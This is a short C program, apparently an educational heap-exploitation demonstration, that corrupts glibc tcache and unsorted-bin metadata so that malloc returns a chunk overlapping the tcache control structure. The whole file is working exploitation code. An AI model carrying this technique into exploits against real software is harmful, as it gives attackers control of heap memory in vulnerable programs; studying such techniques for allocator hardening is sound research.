/* Links of the unsorted list go through the tcache struct, whose counts look like a chunk. */
#include <stdio.h>
#include <stdlib.h>
#include <assert.h>
#include <string.h>
int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    setbuf(stderr, NULL);
    void *lsb = malloc(0x3d8), *msb = malloc(0x3e8);
    free(lsb);
    free(msb);
    char *metadata = (char *)((long)lsb & ~0xfffL);
    void *x[7];
    for (int i = 0; i < 7; i++) x[i] = malloc(0x88);
    char *start = malloc(0x88);
    malloc(0x18);
    char *middle = malloc(0x88);
    malloc(0x18);
    char *end = malloc(0x88);
    malloc(0x18);
    size_t gap = 0x10000 - ((size_t)end + 0x88 + 0x20 + 0x18 - ((size_t)metadata + 0x80)) ;
    malloc((gap & ~15UL) - 0x18);
    long *tail = malloc(0x400);
    long off = (metadata + 0x80 + 0x10000) - (char *)tail;
    assert(off >= -0x100 && off + 16 <= 0x400);
    *(long *)((char *)tail + off) = 0x10000;
    *(long *)((char *)tail + off + 8) = 0x20;
    for (int i = 0; i < 7; i++) free(x[i]);
    *(long *)(start - 0x18) = 0x31;
    free(start - 0x10);
    *(long *)(start - 8) = 0x91;
    *(long *)(end - 0x18) = 0x21;
    free(end - 0x10);
    *(long *)(end - 8) = 0x91;
    free(end);
    free(middle);
    free(start);
    *(unsigned long *)start = (unsigned long)(metadata + 0x80);
    *(unsigned long *)(end + 8) = (unsigned long)(metadata + 0x80);
    char *meta_chunk = malloc(0x288);
    assert(meta_chunk == metadata + 0x90);
    return 0;
}
